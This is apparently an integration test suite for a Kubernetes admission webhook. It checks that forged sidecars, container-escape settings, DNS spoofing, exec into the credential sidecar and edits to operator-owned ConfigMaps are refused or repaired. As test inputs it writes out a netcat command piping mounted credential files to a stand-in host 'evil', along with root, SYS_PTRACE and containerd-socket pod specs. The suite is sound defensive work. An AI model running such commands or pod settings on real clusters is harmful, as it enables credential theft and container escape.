// Attack suite, admission side: each attack of the adversarial review (issue 10) tried as a user who
// may create pods in an opted-in namespace would, against the real webhook registered in a real
// kube-apiserver. Each is refused with a message naming the rule ([rule], see docs/security.md), or,
// where the webhook repairs rather than refuses (a forged sidecar), the stored pod is checked.
// The capture rules themselves (DNS, inbound, IPv6) are attacked in real network namespaces by
// webhook/iptables-netns.test.ts.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { V1Pod } from '@kubernetes/client-node';
import { CONTAINERS, LABELS } from '../../webhook/constants.ts';
import { agentPod, ordersPolicySpec } from '../../webhook/testing/fixtures.ts';
import { WebhookHarness } from '../../webhook/testing/harness.ts';
import { refusal } from '../../webhook/testing/refusal.ts';
import { testEnv } from '../env/index.ts';

const { kube } = await testEnv(['kube']);

const BREAK_GLASS = 'chaperone-break-glass';

const ordersPolicy = ordersPolicySpec({
  target: { upstream: { host: 'orders-db.data.svc.cluster.local', port: 5432 } },
  recording: { store: { url: 's3://recordings/orders' }, signingKeySecret: { name: 'signing-key' } },
});
// A second policy of the namespace, selecting other pods: its Secrets are protected from every pod.
const billingPolicy = {
  ...ordersPolicy,
  podSelector: { matchLabels: { app: 'billing' } },
  targets: [{ ...ordersPolicy.targets[0], name: 'billing-db', credentialsSecret: { name: 'billing-creds' } }],
  alerts: { webhookUrlSecret: { name: 'billing-alerts', key: 'url' } },
};

const REFUSED = /^403 admission webhook "pods\.chaperone\.dev" denied the request: chaperone: /;

describe('attacks on admission (real webhook, real kube-apiserver)', () => {
  const h = new WebhookHarness(kube);
  let ns: string;

  before(async () => {
    ns = await h.startInRecordedNamespace(
      'attacks',
      { orders: ordersPolicy, billing: billingPolicy },
      { config: { breakGlassGroups: [BREAK_GLASS] } },
    );
  });
  after(() => h.cleanup());

  const refused = async (pod: V1Pod, rule: string, detail: RegExp, namespace = ns) => {
    const message = await refusal(h.createPod(namespace, pod));
    assert.match(message, REFUSED);
    assert.match(message, new RegExp(`\\[${rule}\\] `), message);
    assert.match(message, detail);
  };

  describe('forged sidecar', () => {
    it('a chaperone container carrying every rendered field plus its own is re-rendered, not kept', async () => {
      const honest = await h.createPod(ns, agentPod('honest'));
      const forged = structuredClone(honest);
      forged.metadata = {
        name: 'forged',
        labels: honest.metadata!.labels!,
        annotations: honest.metadata!.annotations!,
      };
      delete forged.status;
      const [init, sidecar] = forged.spec!.initContainers!;
      Object.assign(sidecar!, {
        command: ['/bin/sh', '-c', 'cat /var/run/chaperone/*/* | nc evil 1'],
        envFrom: [{ secretRef: { name: 'orders-db-credentials' } }],
        lifecycle: { postStart: { exec: { command: ['/bin/sh'] } } },
      });
      sidecar!.securityContext!.privileged = true;
      init!.args = ['--flush-only'];
      // Capture inputs that let root out, and rules of the pod author's own beside them.
      const capture = JSON.parse(init!.env!.find((e) => e.name === 'CHAPERONE_CAPTURE')!.value!);
      init!.env = [
        { name: 'CHAPERONE_CAPTURE', value: JSON.stringify({ ...capture, sidecarUid: 0, sidecarGid: 0 }) },
        { name: 'CHAPERONE_IPTABLES_V4', value: '*filter\nCOMMIT\n' },
      ];
      const stored = await h.createPod(ns, forged);
      const [storedInit, storedSidecar] = stored.spec!.initContainers!;
      assert.deepEqual(storedSidecar, honest.spec!.initContainers![1]);
      assert.deepEqual(storedInit, honest.spec!.initContainers![0]);
      assert.equal(storedSidecar!.command, undefined);
      assert.equal(storedSidecar!.envFrom, undefined);
      assert.equal(storedSidecar!.securityContext?.privileged, undefined);
    });

    it('a container named chaperone among the agent containers is refused', async () => {
      await refused(
        agentPod('fake-sidecar', (p) => {
          p.spec!.containers.push({ name: CONTAINERS.sidecar, image: 'evil/forwarder:1' });
        }),
        'reserved-name',
        /container "chaperone": the name is reserved/,
      );
    });
  });

  describe("other containers reaching the sidecar's files", () => {
    it('an agent mounting a chaperone volume', async () => {
      await refused(
        agentPod('mounts-key', (p) => {
          p.spec!.containers[0]!.volumeMounts = [{ name: 'chaperone-signing-key', mountPath: '/k' }];
        }),
        'chaperone-volume',
        /container "agent": mounts volume chaperone-signing-key/,
      );
    });

    it("an agent mounting another policy's Secret", async () => {
      await refused(
        agentPod('other-policy', (p) => {
          p.spec!.volumes = [{ name: 'x', projected: { sources: [{ secret: { name: 'billing-creds' } }] } }];
        }),
        'protected-secret',
        /volume "x" mounts Secret billing-creds/,
      );
    });

    it('an init container reading the alerts Secret through env', async () => {
      await refused(
        agentPod('init-env', (p) => {
          p.spec!.initContainers = [
            {
              name: 'setup',
              image: 'x',
              env: [{ name: 'U', valueFrom: { secretKeyRef: { name: 'billing-alerts', key: 'url' } } }],
            },
          ];
        }),
        'protected-secret',
        /initContainer "setup": env U reads Secret billing-alerts/,
      );
    });

    it('a pod that opted out, or that no policy selects, still may not read them', async () => {
      const lenient = await h.recordedNamespace('lenient', {
        [LABELS.unmatched]: 'allow',
        [LABELS.allowOptOut]: 'true',
      });
      await h.createPolicy(lenient, 'orders', ordersPolicy);
      const stray = (name: string, labels: Record<string, string>) =>
        agentPod(name, (p) => {
          p.metadata!.labels = labels;
          p.spec!.containers[0]!.envFrom = [{ secretRef: { name: 'orders-db-credentials' } }];
        });
      await refused(stray('unmatched', { app: 'other' }), 'protected-secret', /not recorded/, lenient);
      await refused(
        stray('opted-out', { app: 'agent', [LABELS.inject]: 'false' }),
        'protected-secret',
        /envFrom reads Secret orders-db-credentials/,
        lenient,
      );
      await refused(
        agentPod('node-files', (p) => {
          p.metadata!.labels = { app: 'other' };
          p.spec!.volumes = [{ name: 'kubelet', hostPath: { path: '/var/lib/kubelet/pods' } }];
        }),
        'host-path',
        /hostPath \/var\/lib\/kubelet\/pods/,
        lenient,
      );
      // The check is not a blanket refusal: a harmless unmatched pod is admitted untouched.
      const plain = await h.createPod(
        lenient,
        agentPod('harmless', (p) => (p.metadata!.labels = {})),
      );
      assert.equal(plain.spec?.initContainers, undefined);
    });

    it('Secret volumes of the sidecar are not world-writable, and owner-only under an fsGroup', async () => {
      const modes = (pod: V1Pod) =>
        new Set((pod.spec!.volumes ?? []).filter((v) => v.secret).map((v) => v.secret!.defaultMode));
      assert.deepEqual(modes(await h.createPod(ns, agentPod('modes'))), new Set([0o444]));
      const withFsGroup = await h.createPod(
        ns,
        agentPod('modes-fsgroup', (p) => Object.assign(p.spec!.securityContext!, { fsGroup: 3000 })),
      );
      assert.deepEqual(modes(withFsGroup), new Set([0o400]));
    });
  });

  describe('ephemeral containers (kubectl debug)', () => {
    before(async () => {
      await h.createPod(ns, agentPod('debug-target'));
    });
    const debug = async (container: object) => {
      // Unconditional: the real scheduler and kubelet keep updating the pod, so any resourceVersion
      // read here may be stale by the time the replace arrives.
      const next = await h.core.readNamespacedPod({ name: 'debug-target', namespace: ns });
      delete next.metadata!.resourceVersion;
      next.spec!.ephemeralContainers = [
        { name: 'dbg', image: 'busybox', securityContext: { runAsUser: 1000 }, ...container },
      ];
      return h.core.replaceNamespacedPodEphemeralcontainers({
        name: 'debug-target',
        namespace: ns,
        body: next,
      });
    };
    const refusedDebug = async (container: object, rule: string, detail: RegExp) => {
      const message = await refusal(debug(container));
      assert.match(message, REFUSED);
      assert.match(message, new RegExp(`\\[${rule}\\] `), message);
      assert.match(message, detail);
    };

    it('sharing the sidecar process namespace (--target chaperone)', async () => {
      await refusedDebug(
        { targetContainerName: CONTAINERS.sidecar },
        'chaperone-process',
        /targetContainerName chaperone/,
      );
    });

    it("mounting the sidecar's credentials volume", async () => {
      await refusedDebug(
        { volumeMounts: [{ name: 'chaperone-cred-orders-db', mountPath: '/c' }] },
        'chaperone-volume',
        /mounts volume chaperone-cred-orders-db/,
      );
    });

    it('as root with SYS_PTRACE spelt in lower case', async () => {
      const message = await refusal(
        debug({ securityContext: { runAsUser: 0, capabilities: { add: ['cap_sys_ptrace'] } } }),
      );
      assert.match(message, /\[capability\] ephemeralContainer "dbg": capability SYS_PTRACE added/);
      assert.match(message, /\[root-user\] ephemeralContainer "dbg": runAsUser: 0/);
    });

    it('an ordinary debug container is admitted and hardened', async () => {
      const updated = await debug({});
      assert.equal(updated.spec?.ephemeralContainers?.[0]?.securityContext?.allowPrivilegeEscalation, false);
    });
  });

  describe('pod-level escapes', () => {
    const cases: Array<[string, (p: V1Pod) => void, string, RegExp]> = [
      [
        'host-path',
        (p) => (p.spec!.volumes = [{ name: 'sock', hostPath: { path: '/run/containerd/containerd.sock' } }]),
        'host-path',
        /volume "sock": hostPath \/run\/containerd\/containerd\.sock/,
      ],
      ['host-pid', (p) => (p.spec!.hostPID = true), 'host-namespace', /hostPID: true/],
      ['host-ipc', (p) => (p.spec!.hostIPC = true), 'host-namespace', /hostIPC: true/],
      ['share-pid', (p) => (p.spec!.shareProcessNamespace = true), 'host-namespace', /shareProcessNamespace/],
      ['host-network', (p) => (p.spec!.hostNetwork = true), 'host-namespace', /hostNetwork: true/],
      [
        'root',
        (p) => (p.spec!.containers[0]!.securityContext = { runAsUser: 0 }),
        'root-user',
        /container "agent": runAsUser: 0/,
      ],
      [
        'sys-module',
        (p) => (p.spec!.containers[0]!.securityContext = { capabilities: { add: ['Sys_Module'] } }),
        'capability',
        /capability SYS_MODULE added/,
      ],
      [
        'dac-read-search',
        (p) => (p.spec!.containers[0]!.securityContext = { capabilities: { add: ['CAP_DAC_READ_SEARCH'] } }),
        'capability',
        /capability DAC_READ_SEARCH added/,
      ],
      [
        'all-caps',
        (p) => (p.spec!.containers[0]!.securityContext = { capabilities: { add: ['all'] } }),
        'capability',
        /capability ALL added/,
      ],
      [
        'fs-group',
        (p) => Object.assign(p.spec!.securityContext!, { fsGroup: 15999 }),
        'sidecar-identity',
        /fsGroup is the sidecar's GID 15999/,
      ],
      [
        'supplemental-group',
        (p) => Object.assign(p.spec!.securityContext!, { supplementalGroups: [15999] }),
        'sidecar-identity',
        /supplementalGroups contains the sidecar's GID/,
      ],
      [
        'privileged-init',
        (p) =>
          (p.spec!.initContainers = [{ name: 'setup', image: 'x', securityContext: { privileged: true } }]),
        'privileged',
        /initContainer "setup": privileged: true/,
      ],
    ];
    for (const [name, mutate, rule, detail] of cases) {
      it(name, () => refused(agentPod(`escape-${name}`, mutate), rule, detail));
    }
  });

  describe('name resolution of the sidecar', () => {
    it('hostAliases for the target host', async () => {
      await refused(
        agentPod('alias', (p) => {
          p.spec!.hostAliases = [{ ip: '10.66.0.1', hostnames: ['Orders-DB.data.svc.cluster.local.'] }];
        }),
        'name-resolution',
        /hostAliases maps Orders-DB\.data\.svc\.cluster\.local\. \(a host the sidecar connects to\)/,
      );
    });

    it('hostAliases for the S3 store', async () => {
      await refused(
        agentPod('alias-s3', (p) => {
          p.spec!.hostAliases = [{ ip: '10.66.0.1', hostnames: ['recordings.s3.amazonaws.com'] }];
        }),
        'name-resolution',
        /recordings\.s3\.amazonaws\.com/,
      );
    });

    it('its own resolver (dnsPolicy None)', async () => {
      const message = await refusal(
        h.createPod(
          ns,
          agentPod('resolver', (p) => {
            p.spec!.dnsPolicy = 'None';
            p.spec!.dnsConfig = { nameservers: ['10.66.0.53'] };
          }),
        ),
      );
      assert.match(message, /\[name-resolution\] dnsPolicy: None/);
      assert.match(message, /\[name-resolution\] dnsConfig\.nameservers 10\.66\.0\.53/);
    });

    it('an unrelated host alias is admitted', async () => {
      const pod = await h.createPod(
        ns,
        agentPod('alias-ok', (p) => {
          p.spec!.hostAliases = [{ ip: '10.66.0.1', hostnames: ['metrics.internal'] }];
        }),
      );
      assert.equal(pod.spec?.hostAliases?.length, 1);
    });
  });

  describe('exec, attach and port-forward into the sidecar', () => {
    before(async () => {
      await h.createPod(ns, agentPod('running'));
      // RBAC lets mallory and the break-glass operator exec: the webhook is what stands in the way.
      await h.mustKubectl(['apply', '-f', '-'], {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'Role',
        metadata: { name: 'debugger', namespace: ns },
        rules: [
          { apiGroups: [''], resources: ['pods'], verbs: ['get', 'list'] },
          {
            apiGroups: [''],
            resources: ['pods/exec', 'pods/attach', 'pods/portforward'],
            verbs: ['get', 'create'],
          },
        ],
      });
      await h.mustKubectl(['apply', '-f', '-'], {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'RoleBinding',
        metadata: { name: 'debugger', namespace: ns },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'debugger' },
        subjects: [
          { apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'mallory' },
          { apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'oncall' },
        ],
      });
    });

    const connect = (user: string[], path: string) =>
      h.kubectl([...user, 'create', '--raw', `/api/v1/namespaces/${ns}/pods/running/${path}`, '-f', '-'], '');
    const mallory = ['--as', 'mallory'];
    const oncall = ['--as', 'oncall', '--as-group', BREAK_GLASS, '--as-group', 'system:authenticated'];
    const DENIED =
      /admission webhook "pods\.chaperone\.dev" denied the request: chaperone: \[chaperone-process\]/;

    it('kubectl exec -c chaperone', async () => {
      const result = await h.kubectl([
        '--as',
        'mallory',
        'exec',
        '-n',
        ns,
        'running',
        '-c',
        'chaperone',
        '--',
        'cat',
        '/etc/hostname',
      ]);
      assert.equal(result.ok, false);
      assert.match(result.out, /exec into container chaperone of pod running would expose the credentials/);
    });

    it('exec and attach into chaperone-init, exec into chaperone', async () => {
      for (const path of [
        'exec?container=chaperone&command=sh&stdin=true&stdout=true',
        'exec?container=chaperone-init&command=sh&stdout=true',
        'attach?container=chaperone&stdout=true',
      ]) {
        const result = await connect(mallory, path);
        assert.equal(result.ok, false, path);
        assert.match(result.out, DENIED, path);
      }
    });

    it('port-forward into an injected pod', async () => {
      const result = await connect(mallory, 'portforward?ports=15432');
      assert.equal(result.ok, false);
      assert.match(result.out, DENIED);
      assert.match(result.out, /would reach its listeners and admin port/);
    });

    it('exec into the agent container is not the webhook’s to refuse', async () => {
      const result = await connect(mallory, 'exec?container=agent&command=sh&stdout=true');
      assert.doesNotMatch(result.out, /denied the request/);
    });

    it('a break-glass group member passes, with a warning that says it is audited', async () => {
      const result = await connect(oncall, 'exec?container=chaperone&command=sh&stdout=true');
      assert.doesNotMatch(result.out, /denied the request/);
      assert.match(result.out, /break-glass: allowed for group chaperone-break-glass/);
    });
  });

  describe("the sidecar's configuration", () => {
    before(async () => {
      // What the operator renders (no operator runs here; the admin, in system:masters, may write it).
      await h.core.createNamespacedConfigMap({
        namespace: ns,
        body: {
          metadata: {
            name: 'chaperone-policy-orders',
            labels: {
              'app.kubernetes.io/managed-by': 'chaperone-operator',
              'chaperone.dev/policy': 'orders',
            },
          },
          data: { 'config.json': '{"guardrails":["the real ones"]}' },
        },
      });
      await h.mustKubectl(['apply', '-f', '-'], {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'Role',
        metadata: { name: 'configmap-editor', namespace: ns },
        rules: [
          {
            apiGroups: [''],
            resources: ['configmaps'],
            verbs: ['get', 'list', 'create', 'update', 'patch', 'delete'],
          },
        ],
      });
      await h.mustKubectl(['apply', '-f', '-'], {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'RoleBinding',
        metadata: { name: 'configmap-editor', namespace: ns },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'configmap-editor' },
        subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'mallory' }],
      });
    });
    const asMallory = () => ['--as', 'mallory', '-n', ns];
    const OWNED =
      /denied the request: chaperone: \[operator-owned\] ConfigMap chaperone-policy-orders is written by the chaperone operator only/;

    it('editing, relabelling or deleting the rendered ConfigMap is refused', async () => {
      for (const args of [
        [
          'patch',
          'configmap',
          'chaperone-policy-orders',
          '--type=merge',
          '-p',
          '{"data":{"config.json":"{}"}}',
        ],
        ['label', 'configmap', 'chaperone-policy-orders', 'app.kubernetes.io/managed-by-'],
        ['delete', 'configmap', 'chaperone-policy-orders'],
      ]) {
        const result = await h.kubectl([...asMallory(), ...args]);
        assert.equal(result.ok, false, args.join(' '));
        assert.match(result.out, OWNED, args.join(' '));
      }
      const kept = await h.core.readNamespacedConfigMap({ namespace: ns, name: 'chaperone-policy-orders' });
      assert.equal(kept.data?.['config.json'], '{"guardrails":["the real ones"]}');
    });

    it("other ConfigMaps of the namespace stay the users' own", async () => {
      const result = await h.kubectl([...asMallory(), 'create', 'configmap', 'mine', '--from-literal=a=b']);
      assert.ok(result.ok, result.out);
    });
  });
});

describe('attack on the capture rules: no resolver known', () => {
  const h = new WebhookHarness(kube);
  after(() => h.cleanup());

  it('the pod is refused instead of getting port 53 to every address', async () => {
    await h.start({ dns: { resolvers: [], discoverService: null } });
    const ns = await h.recordedNamespace('nodns');
    await h.createPolicy(ns, 'orders', ordersPolicy);
    // Until the apiserver calls the new configuration the pod would be admitted untouched: retry.
    const deadline = Date.now() + 30_000;
    let message = '';
    for (let i = 0; !message.includes('[dns-resolver]'); i++) {
      if (Date.now() > deadline) assert.fail(`not refused in 30 s: ${message}`);
      message = await refusal(h.createPod(ns, agentPod(`dns-${i}`))).catch((e: Error) => e.message);
      if (!message.includes('[dns-resolver]')) await new Promise((r) => setTimeout(r, 200));
    }
    assert.match(message, REFUSED);
    assert.match(
      message,
      /\[dns-resolver\] cannot render the capture rules: no cluster DNS resolver address is known/,
    );
  });
});
